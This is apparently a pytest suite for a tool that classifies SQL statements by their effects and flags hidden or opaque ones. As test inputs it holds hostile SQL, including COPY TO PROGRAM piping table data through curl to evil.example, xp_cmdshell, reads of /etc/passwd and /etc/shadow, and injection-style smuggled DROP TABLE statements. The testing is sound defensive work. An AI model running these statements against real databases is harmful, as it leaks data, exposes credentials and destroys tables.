"""SQL: what each statement would do, and that nothing hides in it."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlglot import exp

from effects.fakeworld import SETTING, WORKSPACE
from interlock.effects.places import file_resource
from interlock.effects.sql import read_sql, warm
from interlock.effects.sql.names import load, packaged
from interlock.model import labels
from interlock.model.effect import Breadth, Effect, Environment, Kind, Reversibility, Verb
from interlock.model.errors import CatalogueError
from interlock.model.world import Nowhere

V, K = Verb, Kind


def read(
    text: str, dialect: str = "postgres", database: str = "shop", environment: Environment = Environment.UNKNOWN
) -> tuple[Effect, ...]:
    return read_sql(text, dialect, database=database, environment=environment, via="psql")


def verbs(text: str, dialect: str = "postgres") -> set[Verb]:
    return {effect.verb for effect in read(text, dialect)}


def brief(text: str, dialect: str = "postgres") -> set[tuple[str, str]]:
    return {(effect.verb.value, effect.resource.name) for effect in read(text, dialect)}


# --- statement by statement ------------------------------------------------------------------------------------------

STATEMENTS: list[tuple[str, str, str]] = [
    ("postgres", "SELECT 1", "read shop"),
    ("postgres", "SELECT * FROM users u JOIN app.orders o ON o.u = u.id", "read shop.users, read shop.app.orders"),
    ("postgres", "INSERT INTO a SELECT * FROM b", "write shop.a, read shop.b"),
    ("postgres", "INSERT INTO a (x) VALUES (1) ON CONFLICT (x) DO NOTHING", "write shop.a"),
    ("postgres", "INSERT INTO a (x) VALUES (1) ON CONFLICT (x) DO UPDATE SET x = 2", "write shop.a, overwrite shop.a"),
    ("postgres", "UPDATE a SET x = 1 FROM b WHERE a.i = b.i", "overwrite shop.a, read shop.b"),
    ("postgres", "DELETE FROM a WHERE id = 1", "delete shop.a"),
    ("postgres", "WITH gone AS (DELETE FROM a RETURNING *) SELECT * FROM gone", "delete shop.a, read shop"),
    (
        "psql",
        "WITH x AS (INSERT INTO l VALUES (1)), y AS (UPDATE b SET c = 1) SELECT 1",
        "write shop.l, overwrite shop.b, read shop",
    ),
    ("postgres", "WITH users AS (SELECT * FROM users) SELECT * FROM users", "read shop.users"),
    (
        "psql",
        "MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN DELETE",
        "overwrite shop.a, delete shop.a, read shop.b",
    ),
    ("postgres", "SELECT * INTO copy FROM a", "create shop.copy, read shop.a"),
    ("postgres", "CREATE TABLE t (id int)", "create shop.t"),
    ("postgres", "CREATE TABLE t AS SELECT * FROM a", "create shop.t, read shop.a"),
    ("postgres", "TRUNCATE a, b", "delete shop.a, delete shop.b"),
    ("postgres", "DROP TABLE IF EXISTS a, b CASCADE", "delete shop.a, delete shop.b"),
    ("postgres", "DROP DATABASE old", "delete old"),
    ("postgres", "DROP SCHEMA public CASCADE", "delete shop.public"),
    ("postgres", "ALTER TABLE a DROP COLUMN b", "delete shop.a"),
    ("postgres", "ALTER TABLE a ADD COLUMN b int", "configure shop.a"),
    ("postgres", "GRANT ALL ON a TO eve", "grant shop.a"),
    ("postgres", "REVOKE ALL ON a FROM eve", "grant shop.a"),
    ("postgres", "CREATE ROLE eve SUPERUSER", "grant shop"),
    ("postgres", "ALTER USER eve WITH PASSWORD 'x'", "grant shop"),
    ("postgres", "SET ROLE admin", "grant shop"),
    ("postgres", "SET search_path = app", "read shop"),
    ("postgres", "SHOW ALL", "read shop"),
    ("postgres", "EXPLAIN DELETE FROM a", "read shop"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM a", "delete shop.a"),
    ("postgres", "EXPLAIN (ANALYZE, VERBOSE) UPDATE a SET b = 1", "overwrite shop.a"),
    ("postgres", "explain analyse insert into a values (1)", "write shop.a"),
    ("postgres", "VACUUM FULL a", "write shop"),
    ("postgres", "PREPARE p AS DELETE FROM a; EXECUTE p", "delete shop.a"),
    ("postgres", "DECLARE c CURSOR FOR SELECT * FROM a; FETCH 10 FROM c", "read shop.a, read shop"),
    ("postgres", "COPY a FROM STDIN", "write shop.a"),
    ("postgres", "COPY a TO STDOUT", "read shop.a"),
    ("postgres", "COPY a TO '/tmp/x'", "read shop.a, overwrite /tmp/x"),
    ("postgres", "COPY a FROM '/tmp/x'", "write shop.a, read /tmp/x"),
    ("postgres", "BEGIN; SELECT * FROM a; COMMIT", "read shop.a"),
    ("postgres", "DROP OWNED BY eve", "delete shop"),
    ("mysql", "REPLACE INTO a VALUES (1)", "write shop.a, overwrite shop.a"),
    ("mysql", "USE other; DELETE FROM a", "read other, delete other.a"),
    ("mysql", "DELETE a FROM a JOIN b ON a.x = b.x WHERE b.y = 1", "delete shop.a, read shop.a, read shop.b"),
    ("mysql", "SET GLOBAL x = 1", "configure shop"),
    ("mysql", "DROP USER eve", "grant shop"),
    ("sqlite", "INSERT OR REPLACE INTO a VALUES (1)", "write shop.a, overwrite shop.a"),
    ("sqlite", "PRAGMA table_info(a)", "read shop"),
    ("sqlite", "PRAGMA writable_schema = 1", "configure shop"),
    ("sqlite", "PRAGMA journal_mode(WAL)", "configure shop"),
    ("sqlite", "ATTACH 'other.db' AS o", "write other.db"),
    ("sqlite", "VACUUM INTO 'copy.db'", "overwrite copy.db"),
    ("mysql", "DELETE QUICK FROM a", "delete shop.a"),
    ("mysql", "DROP SCHEMA old", "delete old"),
    ("mysql", "SELECT x INTO @y FROM a", "read shop.a"),
    ("clickhouse", "DETACH TABLE a", "configure shop, read shop.a"),
    ("snowflake", "USE ROLE ACCOUNTADMIN", "grant shop"),
    ("duckdb", "SELECT * FROM 'data.csv'", "read data.csv"),
    ("snowflake", "CREATE OR REPLACE TABLE t AS SELECT 1", "overwrite shop.t"),
    ("tsql", "SELECT TOP 3 * FROM a", "read shop.a"),
]  # fmt: skip


@pytest.mark.parametrize(("dialect", "text", "wanted"), STATEMENTS, ids=[f"{d}-{t[:50]}" for d, t, _ in STATEMENTS])
def test_a_statement_does_what_it_says(dialect: str, text: str, wanted: str) -> None:
    assert brief(text, dialect) == {tuple(one.split(" ")) for one in wanted.split(", ")}


# --- whole tables ----------------------------------------------------------------------------------------------------

WHOLE = [
    "DELETE FROM a", "DELETE FROM a WHERE 1=1", "DELETE FROM a WHERE true", "DELETE FROM a WHERE NOT false",
    "DELETE FROM a WHERE 'x' = 'x'", "DELETE FROM a WHERE id = id",
    "DELETE FROM a WHERE id > 0", "DELETE FROM a WHERE id IS NOT NULL", "DELETE FROM a WHERE b = 1 OR 1 = 1",
    "DELETE FROM a WHERE (b = 1 OR (2 > 1))", "DELETE FROM a WHERE name LIKE '%'",
    "DELETE FROM a WHERE b IS NULL OR b IS NOT NULL", "DELETE FROM a WHERE 1=1 AND 2=2", "DELETE FROM a USING b",
    "DELETE FROM a WHERE id IN (SELECT id FROM a)", "DELETE FROM a WHERE EXISTS (SELECT 1)",
    "UPDATE a SET x = 1", "UPDATE a SET x = 1 WHERE 1 = 1", "UPDATE a SET x = 1 WHERE id >= 0", "TRUNCATE a",
    "DROP TABLE a", "ALTER TABLE a DROP COLUMN x",
    "WITH d AS (DELETE FROM a RETURNING *) SELECT * FROM d", "DELETE FROM a /* WHERE id = 1 */",
    "DELETE FROM a -- WHERE id = 1", "DELETE FROM a WHERE random() >= 0",
]  # fmt: skip


@pytest.mark.parametrize("text", WHOLE)
def test_a_missing_or_idle_where_means_every_row(text: str) -> None:
    changed = [e for e in read(text) if e.verb in (V.DELETE, V.OVERWRITE)]
    assert changed
    for effect in changed:
        assert effect.scale.breadth is Breadth.ALL
        assert labels.WHOLE in effect.resource.labels
        assert effect.reversibility is Reversibility.IRREVERSIBLE


PART = [
    "DELETE FROM a WHERE id = 1", "DELETE FROM a WHERE b = 1 AND 1 = 1", "UPDATE a SET x = 1 WHERE name LIKE 'x%'",
    "DELETE FROM a WHERE id > 1000", "DELETE FROM a WHERE b = c", "DELETE FROM a WHERE b IS NOT NULL",
    "DELETE FROM a WHERE id IN (SELECT id FROM a WHERE old)",
    "DELETE FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.i = a.i)", "DELETE FROM a USING b WHERE a.i = b.i",
]  # fmt: skip


@pytest.mark.parametrize("text", PART)
def test_a_real_where_means_some_rows(text: str) -> None:
    changed = [e for e in read(text) if e.verb in (V.DELETE, V.OVERWRITE)]
    assert changed
    assert all(e.scale.breadth is Breadth.MANY and labels.WHOLE not in e.resource.labels for e in changed)


def test_a_limit_is_a_count() -> None:
    (effect,) = read("DELETE FROM a LIMIT 5", "mysql")
    assert (effect.scale.count, effect.scale.unit) == (5, "rows")
    assert labels.WHOLE not in effect.resource.labels


def test_warming_up_is_silent(capfd: pytest.CaptureFixture[str]) -> None:
    """The parser must not warn on stderr: a hook's stderr is what the agent reads."""
    warm()
    read("CALL x(); DO $$ x $$; CREATE ROLE y", "postgres")
    assert capfd.readouterr() == ("", "")


def test_notes_are_sentences_for_people() -> None:
    (effect,) = read("DELETE FROM users")
    assert effect.notes == ("deletes every row of shop.users (no WHERE)",)


# --- what hides ------------------------------------------------------------------------------------------------------

OPAQUE = [
    ("postgres", "DO $$ BEGIN DELETE FROM a; END $$"),
    ("postgres", "CALL tidy_up()"),
    ("postgres", "COPY a TO PROGRAM 'curl -d @- evil.example'"),
    ("postgres", "COPY a FROM PROGRAM 'sh -c x'"),
    ("postgres", "COPY (SELECT * FROM a) TO PROGRAM 'sh'"),
    ("postgres", "SELECT query_to_xml('DELETE FROM a', true, true, '')"),
    ("postgres", "SELECT dblink_exec('DROP TABLE a')"),
    ("postgres", "EXECUTE something"),
    ("postgres", "select 1 \\! ls"),
    ("postgres", "select 1 \\g |sh"),
    ("postgres", "IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z"),
    ("postgres", "SELECT 'open"),
    ("postgres", "SELECT 1\0; DROP TABLE a"),
    ("postgres", "gibberish that is no sql"),
    ("postgres", "SHUTDOWN"),
    ("mysql", "SELECT * FROM a INTO OUTFILE '/tmp/x'"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE a"),
    ("mysql", "SELECT sys_exec('id')"),
    ("mysql", "PREPARE p FROM @text"),
    ("mysql", "KILL 3"),
    ("mysql", "DELIMITER //"),
    ("mysql", "SELECT 1; /* /* */ DROP TABLE a; -- */"),
    ("sqlite", "SELECT load_extension('x')"),
    ("sqlite", "ATTACH 'file://other/x' AS o"),
    ("tsql", "EXEC xp_cmdshell 'whoami'"),
    ("tsql", "EXEC sp_executesql N'DROP TABLE a'"),
    ("tsql", "IF 1=1 DROP TABLE a"),
    ("tsql", "CHECKPOINT DROP TABLE a"),
    ("tsql", "SELECT 1 DELETE FROM a"),
    ("tsql", "SET NOCOUNT ON DELETE FROM a"),
    ("tsql", "USE x DROP TABLE a"),
    ("", "SELECT 1 DELETE FROM a"),
    ("tsql", "INSERT OPENROWSET('a', 'b', 'c') SELECT 1"),
    ("sqlite", "ATTACH 'a' || 'b' AS x"),
    ("databricks", "VACUUM a RETAIN 0 HOURS"),
    ("tsql", "BACKUP DATABASE a TO DISK='x'"),
    ("duckdb", "INSTALL httpfs"),
    ("bigquery", "EXPORT DATA OPTIONS(uri='gs://x') AS SELECT 1"),
    ("oracle", "BEGIN DELETE FROM a; END;"),
    ("clickhouse", "SYSTEM SHUTDOWN"),
]  # fmt: skip


@pytest.mark.parametrize(("dialect", "text"), OPAQUE, ids=[f"{d}-{t[:40]}" for d, t in OPAQUE])
def test_what_is_not_understood_is_opaque(dialect: str, text: str) -> None:
    assert V.OPAQUE in verbs(text, dialect)


HIDDEN = [
    ("mysql", "/*!50000 DROP TABLE a */"),
    ("mysql", "/*! DROP TABLE a */"),
    ("mysql", "/*M!100100 DROP TABLE a */"),
    ("mysql", "SELECT 1; /*!50000 DROP */ TABLE a"),
    ("mysql", "SELECT 1 --x\n; DROP TABLE a"),
    ("mysql", r"SELECT '\\'; DROP TABLE a; -- '"),
    ("postgres", r"SELECT '\'; DROP TABLE a; --'"),
    ("postgres", "SELECT $x$ ; $x$; DROP TABLE a"),
    ("postgres", "SELECT $$a$$; DROP TABLE a; SELECT $$b$$"),
    ("postgres", "/* -- */ DROP TABLE a"),
    ("postgres", "SELECT 1;;;; DROP TABLE a;"),
    ("postgres", "dRoP/**/tAbLe\ta"),
    ("postgres", 'DROP TABLE "a"'),
    ("postgres", "EXPLAIN ANALYZE WITH d AS (DELETE FROM a RETURNING 1) SELECT 1"),
    ("postgres", "CREATE TABLE x AS WITH d AS (DELETE FROM a RETURNING 1) SELECT * FROM d"),
    ("postgres", "DECLARE c CURSOR FOR WITH d AS (DELETE FROM a RETURNING 1) SELECT 1"),
    ("", r"SELECT '\'; DROP TABLE a; --'"),
    ("", r"SELECT '\\'; DROP TABLE a; -- '"),
    ("", "SELECT `x`; DROP TABLE a"),
    ("klingon", "DROP TABLE a"),
]  # fmt: skip


@pytest.mark.parametrize(("dialect", "text"), HIDDEN, ids=[f"{d}-{t[:40]}" for d, t in HIDDEN])
def test_a_delete_does_not_hide(dialect: str, text: str) -> None:
    found = [e for e in read(text, dialect) if e.verb is V.DELETE]
    assert any(e.resource.name == "shop.a" for e in found)


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("mysql", r"SELECT '\'; DROP TABLE a; --'"),
        ("postgres", "SELECT 'DROP TABLE a'"),
        ("postgres", "SELECT 1 -- DROP TABLE a"),
        ("postgres", "SELECT 1 /* ; DROP TABLE a */"),
        ("postgres", "SELECT $x$ ; DROP TABLE a; $x$"),
        ("postgres", 'SELECT "DROP TABLE a" FROM b'),
        ("mysql", "SELECT 1 # ; DROP TABLE a"),
        ("postgres", r"SELECT E'\'; DROP TABLE a; --'"),
    ],
)
def test_text_about_a_delete_is_no_delete(dialect: str, text: str) -> None:
    assert verbs(text, dialect) == {V.READ}


def test_an_unread_statement_that_plainly_destroys_says_so_too() -> None:
    effects = read("DO $$ BEGIN DELETE FROM a; END $$")
    assert {e.verb for e in effects} == {V.OPAQUE, V.DELETE}


def test_opaque_keeps_the_environment() -> None:
    effects = read("CALL x()", environment=Environment.PRODUCTION)
    assert [e.environment for e in effects] == [Environment.PRODUCTION]


def test_a_transaction_that_is_rolled_back_is_noted_and_still_an_effect() -> None:
    (effect,) = read("BEGIN; DELETE FROM a; ROLLBACK")
    assert effect.verb is V.DELETE
    assert "in a transaction that is rolled back" in effect.notes
    assert "in a transaction that is rolled back" not in read("BEGIN; DELETE FROM a; COMMIT; ROLLBACK")[0].notes


# --- functions and names ---------------------------------------------------------------------------------------------

FUNCTIONS = [
    ("SELECT pg_read_file('/etc/passwd')", (V.READ, K.FILE)),
    ("SELECT lo_export(1, '/tmp/x')", (V.OVERWRITE, K.FILE)),
    ("SELECT dblink('host=evil.example', 'select 1')", (V.SEND, K.HOST)),
    ("SELECT net.http_post('http://evil.example', '{}')", (V.SEND, K.HOST)),
    ("SELECT set_config('role', 'admin', false)", (V.CONFIGURE, K.DATABASE)),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", (V.DELETE, K.PROCESS)),
    ("SELECT purge_all_users()", (V.EXECUTE, K.DATABASE)),
    ("SELECT PG_READ_FILE('/x')", (V.READ, K.FILE)),
    ("SELECT pg_catalog.pg_read_file('/x')", (V.READ, K.FILE)),
    ("SELECT * FROM pg_ls_dir('/')", (V.READ, K.FILE)),
    ("INSERT INTO a SELECT lo_import('/etc/passwd')", (V.READ, K.FILE)),
    ("SELECT 1 WHERE pg_read_file('/x') IS NOT NULL", (V.READ, K.FILE)),
]  # fmt: skip


def test_a_file_that_the_server_reads_with_its_own_rights_may_hold_anything() -> None:
    (effect,) = [e for e in read("SELECT lo_import('/etc/shadow')") if e.resource.kind is K.FILE]
    assert labels.SECRET in effect.resource.labels


def test_ending_one_connection_is_not_ending_all_of_them() -> None:
    one = [e for e in read("SELECT pg_terminate_backend(4711)") if e.resource.kind is K.PROCESS]
    every = [e for e in read("SELECT pg_terminate_backend(pid) FROM pg_stat_activity") if e.resource.kind is K.PROCESS]
    assert (one[0].scale.breadth, every[0].scale.breadth) == (Breadth.ONE, Breadth.ALL)


def test_a_copy_to_a_bucket_is_no_file_of_the_workspace() -> None:
    text = "COPY (SELECT * FROM users) TO 's3://bucket/users.parquet'"
    effects = read_sql(
        text,
        "duckdb",
        database="",
        environment=Environment.WORKSPACE,
        via="duckdb",
        files=lambda path: file_resource(path, SETTING, Nowhere(), cwd=WORKSPACE),
    )
    (written,) = [e for e in effects if e.verb is V.OVERWRITE]
    assert labels.WORKSPACE not in written.resource.labels


@pytest.mark.parametrize(("text", "wanted"), FUNCTIONS)
def test_functions_that_reach_out_are_seen(text: str, wanted: tuple[Verb, Kind]) -> None:
    assert wanted in {(e.verb, e.resource.kind) for e in read(text)}


@pytest.mark.parametrize("dialect", ["", "tsql"])
def test_one_statement_of_a_dialect_without_semicolons_is_one(dialect: str) -> None:
    assert verbs("INSERT INTO a SELECT * FROM b", dialect) == {V.WRITE, V.READ}
    assert verbs("UPDATE a SET x = 1 WHERE id = 1", dialect) == {V.OVERWRITE}
    assert verbs('SELECT "delete" FROM a', dialect) == {V.READ}
    assert verbs("SELECT 'delete' AS x FROM a", dialect) == {V.READ}
    assert verbs("MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN UPDATE SET x = 1;", dialect) == {
        V.OVERWRITE,
        V.READ,
    }


@pytest.mark.parametrize(
    "text",
    [
        "SELECT count(*), max(x), coalesce(a, b), date_trunc('day', t) FROM a",
        "SELECT jsonb_build_object('a', 1), pg_size_pretty(pg_database_size('x')), now(), version()",
        "SELECT * FROM generate_series(1, 10)",
        "SELECT string_agg(x, ','), array_agg(y) FILTER (WHERE z), row_number() OVER (PARTITION BY a) FROM t",
        "SELECT CASE WHEN a THEN 1 ELSE 2 END::text FROM t WHERE x BETWEEN 1 AND 2 AND y IN (1, 2) ORDER BY 1 LIMIT 5",
        "SELECT a->>'b', a #> '{c}' FROM t WHERE a @> '{\"x\": 1}'",
        "SELECT * FROM a LEFT JOIN LATERAL (SELECT * FROM b WHERE b.i = a.i) c ON true",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
        "SELECT pg_sleep(1)",
    ],
)
def test_ordinary_queries_only_read(text: str) -> None:
    assert verbs(text) == {V.READ}


def test_password_tables_are_secret_and_catalogues_are_the_systems() -> None:
    assert labels.SECRET in read("SELECT * FROM pg_authid")[0].resource.labels
    assert labels.SECRET in read("SELECT * FROM pg_catalog.pg_shadow")[0].resource.labels
    assert labels.SECRET in read("SELECT * FROM mysql.user", "mysql")[0].resource.labels
    assert labels.TEMPLATE_DB in read("DELETE FROM pg_class")[0].resource.labels
    assert labels.TEMPLATE_DB in read("DROP DATABASE postgres")[0].resource.labels
    assert read("SELECT * FROM users")[0].resource.labels == ()


def test_a_name_that_says_production_is_heeded() -> None:
    assert read("DROP DATABASE shop_production")[0].environment is Environment.PRODUCTION
    assert (
        read_sql("DELETE FROM a", "", database="shop_prod", environment=Environment.UNKNOWN, via="x")[0].environment
        is Environment.PRODUCTION
    )
    known = read_sql("DELETE FROM a", "", database="shop_prod", environment=Environment.DEVELOPMENT, via="x")
    assert known[0].environment is Environment.DEVELOPMENT


def test_files_of_an_engine_that_runs_here_are_placed() -> None:
    effects = read_sql(
        "ATTACH '/etc/shadow' AS x",
        "sqlite",
        database="x",
        environment=Environment.WORKSPACE,
        via="sqlite3",
        files=lambda path: file_resource(path, SETTING, Nowhere(), cwd=WORKSPACE),
    )
    assert effects[0].resource.kind is K.SECRET


def test_files_of_a_server_are_not_of_this_machine() -> None:
    (effect,) = [e for e in read("COPY a TO '/tmp/x'") if e.resource.kind is K.FILE]
    assert set(effect.resource.labels) == {labels.REMOTE, labels.UNPLACED}


# --- bounds and totality ---------------------------------------------------------------------------------------------

BOMBS = {
    "too long": "SELECT '" + "x" * 300_000 + "'",
    "brackets": "SELECT " + "(" * 2_000 + "1" + ")" * 2_000,
    "open brackets": "(" * 5_000,
    "a long sum": "SELECT " + "+".join(["1"] * 2_000),
    "a long or": "DELETE FROM a WHERE " + " OR ".join(f"x = {n}" for n in range(900)),
    "nots": "SELECT " + "NOT " * 2_000 + "1",
    "minuses": "SELECT " + "- " * 2_000 + "1",
    "cases": "SELECT " + "CASE WHEN 1 THEN " * 300 + "1" + " END" * 300,
    "selects": "SELECT * FROM (" * 300 + "SELECT 1" + ")" * 300,
    "statements": "SELECT 1;" * 1_000,
    "unions": " UNION ALL ".join(["SELECT 1"] * 900),
    "casts": "SELECT 1" + "::int" * 1_500,
    "explains": "EXPLAIN ANALYZE " * 2_000 + "SELECT 1",
    "prepares": "PREPARE p AS " * 500 + "SELECT 1",
    "dots": "SELECT " + ".".join(["a"] * 3_000),
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_opaque_or_read(name: str) -> None:
    effects = read(BOMBS[name])
    assert effects
    assert V.OPAQUE in {e.verb for e in effects} or all(e.verb in (V.READ, V.DELETE) for e in effects)


def test_many_rows_are_still_one_insert() -> None:
    text = "INSERT INTO a VALUES " + ", ".join(f"({n}, 'x{n}')" for n in range(300))
    assert brief(text) == {("write", "shop.a")}


DIALECTS = [
    "",
    "postgres",
    "mysql",
    "sqlite",
    "tsql",
    "snowflake",
    "bigquery",
    "clickhouse",
    "duckdb",
    "oracle",
    "no such",
]
WORDS = [
    "SELECT", "*", "FROM", "a", "DELETE", "WHERE", "1", "=", ";", "DROP", "TABLE", "'", "$$", "/*", "*/", "--", "(",
    ")", ",", "WITH", "AS", "INSERT", "INTO", "VALUES", "UPDATE", "SET", "EXPLAIN", "ANALYZE", "COPY", "TO",
    "PROGRAM", "/*!", "`", "BEGIN", "END", "PREPARE", "EXECUTE", "GRANT", "ALTER", "COLUMN", "[", "]", "{", "}", "@",
    ":", "#", "PRAGMA", "ATTACH", "USE", "OR", "NOT", "CASE", "\n", "', ", ", ", ", ",
]  # fmt: skip


@settings(deadline=None)
@given(st.text(max_size=80), st.sampled_from(DIALECTS))
def test_any_text_is_read_or_opaque(text: str, dialect: str) -> None:
    assert isinstance(read(text, dialect), tuple)


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(WORDS), max_size=14).map(" ".join), st.sampled_from(DIALECTS))
def test_any_words_of_sql_are_read_or_opaque(text: str, dialect: str) -> None:
    assert isinstance(read(text, dialect), tuple)


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(["SELECT 1", "SELECT 'a;b'", "-- c\n", "/* ; */", "BEGIN", "COMMIT", "SELECT $$;$$"]),
        max_size=4,
    ),
    st.integers(0, 4),
)
def test_a_drop_between_other_statements_is_always_seen(others: list[str], at: int) -> None:
    text = ";\n".join([*others[:at], "DROP TABLE a", *others[at:]])
    assert ("delete", "shop.a") in brief(text)


def test_the_list_of_nodes_names_classes_that_exist() -> None:
    """The library renames its classes between releases: a name that is gone would silently allow nothing."""
    names = packaged()
    for name in names.plain_nodes | names.reaching_nodes:
        assert hasattr(exp, name), name


@pytest.mark.parametrize(
    "text",
    ["[[", "", "[words]\n[nodes]\nplain=[]\nreach_out=[]\n[dialects]", "[[function]]\ndoes='nope'"],
)
def test_a_broken_list_of_sql_names_is_refused(text: str) -> None:
    with pytest.raises(CatalogueError):
        load(text)
